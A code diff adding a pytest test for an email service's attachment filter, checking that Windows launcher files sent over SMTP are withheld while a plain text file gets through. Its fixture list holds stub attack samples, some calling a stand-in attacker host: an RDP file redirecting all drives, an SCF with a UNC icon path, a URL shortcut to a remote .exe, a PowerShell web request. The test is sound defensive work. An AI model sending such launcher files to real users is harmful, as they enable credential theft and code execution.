@@ -270,3 +270,48 @@ def test_deleting_a_message_removes_unshared_blobs(seeded: Any, api: Any) -> Non
     assert seeded.blobs.exists(hashlib.sha256(pdf).hexdigest())  # still referenced by the second
     with seeded.sessions() as session:
         assert session.scalars(select(Attachment.message_id)).all() == [second["id"]]
+
+
+LAUNCHERS = [
+    (
+        "support.rdp",
+        "application/x-rdp",
+        b"full address:s:rdp.attacker.example:3389\r\ndrivestoredirect:s:*\r\n",
+    ),
+    ("prices.iqy", "text/plain", b"WEB\r\n1\r\nhttps://attacker.example/q?x=1\r\n"),
+    ("table.slk", "text/plain", b'ID;P\r\nC;Y1;X1;K"x";EEXEC("calc")\r\nE\r\n'),
+    ("portal.url", "text/plain", b"[InternetShortcut]\r\nURL=file://attacker.example/share/x.exe\r\n"),
+    ("home.website", "text/plain", b"[InternetShortcut]\r\nURL=https://attacker.example/\r\n"),
+    ("open.settingcontent-ms", "application/xml", b"<?xml version='1.0'?><PCSettings></PCSettings>"),
+    ("docs.library-ms", "application/xml", b"<?xml version='1.0'?><libraryDescription/>"),
+    ("app.appref-ms", "text/plain", b"https://attacker.example/app.application#app.application"),
+    ("run.hta", "text/plain", b"<HTA:APPLICATION ID='x'/>\r\nnew ActiveXObject('WScript.Shell')\r\n"),
+    ("run.jse", "text/plain", b"#@~^AAAAAA==x^#~@"),
+    (
+        "run.wsf",
+        "text/plain",
+        b"<?xml version='1.0'?><job><script language='VBScript'>MsgBox 1</script></job>",
+    ),
+    ("run.ps1", "text/plain", b"Invoke-WebRequest https://attacker.example"),
+    ("icon.scf", "text/plain", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker.example\\x.ico\r\n"),
+    ("setup.inf", "text/plain", b"[Version]\r\nSignature=$CHICAGO$\r\n"),
+    ("keys.reg", "text/plain", b"Windows Registry Editor Version 5.00\r\n"),
+]
+
+
+def test_text_based_launchers_withheld_through_smtp(seeded: Any, door: Any) -> None:
+    """Finding 13: plain-text launchers make no type claim by content, so they are refused by name,
+    withheld with the usual visible line and reason; a harmless file in the same mail still arrives."""
+    server, conv, address = door
+    msg = with_files(
+        reply_message("alice@client.test", address, "The files you asked for."),
+        [*LAUNCHERS, ("notes.txt", "text/plain", b"Just some notes about Tuesday.\n")],
+    )
+    assert send(server, msg, "alice@client.test", address)[0] == 250
+    posted = last_message(seeded, conv)
+    assert [a.filename for a in posted.attachments] == ["notes.txt"]
+    assert f"{len(LAUNCHERS)} attachments withheld: support.rdp (program or script)" in posted.body
+    with seeded.sessions() as session:
+        row = session.scalars(select(InboundLog).order_by(InboundLog.received_at.desc())).first()
+    verdicts = {d["filename"]: d["reason"] for d in row.details["attachments"]}  # type: ignore[union-attr]
+    assert verdicts == {name: "executable" for name, _, _ in LAUNCHERS} | {"notes.txt": None}
